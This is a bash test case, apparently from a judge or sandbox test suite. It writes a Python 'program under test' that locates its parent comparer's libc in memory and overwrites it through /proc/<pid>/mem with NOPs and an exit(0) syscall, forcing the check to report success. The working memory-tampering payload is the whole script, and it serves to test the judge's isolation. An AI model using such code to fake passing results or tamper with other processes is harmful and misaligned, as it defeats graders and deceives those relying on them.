#!/usr/bin/env bash
# title: the program under test overwrites the C library in the memory of the process that compares, to make it exit with 0
# class: F
# fixtures: ext
# needs: test "$(uname -m)" = x86_64

cat > calc.py <<'P'
import os, time
judge = os.getppid()
leave = bytes.fromhex("31ffb8e70000000f05")
for line in open(f"/proc/{judge}/maps"):
    place, rights, *rest = line.split()
    if "x" in rights and "libc" in line:
        start, end = (int(word, 16) for word in place.split("-"))
        with open(f"/proc/{judge}/mem", "r+b", buffering=0) as memory:
            memory.seek(start)
            memory.write(b"\x90" * (end - start - len(leave)) + leave)
time.sleep(2)
P
echo "calc.py prints the sum"
